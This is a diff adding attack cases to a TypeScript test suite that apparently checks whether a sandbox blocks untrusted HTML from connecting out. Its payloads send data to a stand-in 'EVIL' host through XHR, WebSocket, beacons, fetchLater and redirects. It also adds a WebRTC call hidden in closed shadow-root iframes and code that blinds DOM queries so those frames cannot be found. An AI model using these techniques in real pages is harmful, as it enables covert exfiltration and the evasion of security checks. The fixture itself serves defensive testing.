@@ -22,6 +22,16 @@ const tried = (...codes: string[]) =>
   );
 const allThrew = (count: number) => new RegExp(`^(?:.+ threw\\n){${count}}done`);
 
+/** Sends a packet to the server `STUN` from whatever window it runs in. */
+const CALL = `const call = new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }); call.createDataChannel('a'); call.createOffer().then((offer) => call.setLocalDescription(offer));`;
+const HIDDEN = `<script>${CALL}</script>`;
+const quoted = JSON.stringify(HIDDEN).replaceAll("<", "\\u003c");
+/** Puts other functions in the place of those by which a frame could be found and taken out. */
+const BLINDED = `for (const [owner, name] of [[Element.prototype, 'querySelectorAll'], [Document.prototype, 'querySelectorAll'], [DocumentFragment.prototype, 'querySelectorAll'],
+    [Element.prototype, 'matches'], [Element.prototype, 'remove'], [NodeList.prototype, 'item'], [Reflect, 'apply'], [Array.prototype, Symbol.iterator]]) owner[name] = () => null;
+  Object.defineProperty(NodeList.prototype, 'length', { get: () => 0 }); Object.defineProperty(MutationRecord.prototype, 'addedNodes', { get: () => [] });
+  Object.defineProperty(Array.prototype, '0', { set() {}, get() {}, configurable: true }); Object.prototype.get = () => 1;`;
+
 export const BLOCK_ATTACKS: readonly BlockAttack[] = [
   { name: "leads itself elsewhere", html: script("location = 'EVIL/self?stolen'"), ended: "left", mayConnect: true },
   {
@@ -110,7 +120,7 @@ export const BLOCK_ATTACKS: readonly BlockAttack[] = [
     name: "asks by older ways",
     html: script(`for (const run of [
       () => { const ask = new XMLHttpRequest(); ask.open('GET', 'EVIL/xhr'); ask.send(); },
-      () => new WebSocket('EVIL/socket'.replace('http', 'ws')), () => new EventSource('EVIL/events'),
+      () => new WebSocket('EVIL/socket'.replace('http', 'ws')), () => new EventSource('EVIL/events'), () => fetchLater('EVIL/deferred', { activateAfter: 0 }),
       () => navigator.sendBeacon('EVIL/beacon', 'a'), () => new WebTransport('EVIL/transport'.replace('http', 'https')),
     ]) { try { run(); } catch {} } addEventListener('pagehide', () => navigator.sendBeacon('EVIL/bye', 'a')); log('done')`),
     logs: /done/,
@@ -203,8 +213,8 @@ export const BLOCK_ATTACKS: readonly BlockAttack[] = [
   },
   {
     name: "writes itself anew",
-    html: `${LOG}<script>addEventListener('load', () => { document.open(); document.write('<pre id=out>rewritten</pre><img src="EVIL/rewritten">'); document.close(); })</script>`,
-    logs: /rewritten/,
+    html: `${LOG}<script>addEventListener('load', () => { document.open(); document.write('<pre id=out>rewritten</pre><img src="EVIL/rewritten">'); document.close(); log('kept'); })</script>`,
+    logs: /^kept/,
   },
   {
     name: "takes our script out",
@@ -212,5 +222,15 @@ export const BLOCK_ATTACKS: readonly BlockAttack[] = [
       "try { delete window.maestro; window.maestro = null; } catch {} for (const one of document.querySelectorAll('head script, head style')) one.remove(); log(typeof maestro.send)",
     ),
     logs: /function/,
+  },
+  {
+    name: "calls others over WebRTC, in its own window and in frames that it hides",
+    html: `${LOG}<div id=a></div><div><template shadowrootmode=closed><iframe srcdoc="${HIDDEN}"></iframe></template></div><iframe srcdoc="${HIDDEN}"></iframe>
+      <script>try { ${CALL} } catch {} document.write('<div><template shadowroot' + 'mode=closed>'); document.write(${quoted});
+      ${BLINDED}
+      const frame = () => { const made = document.createElement('iframe'); made.srcdoc = ${quoted}; return made; };
+      document.body.append(frame()); a.attachShadow({ mode: 'closed' }).append(frame());
+      setTimeout(() => log('done'), 1500)</script>`,
+    logs: /done/,
   },
 ];
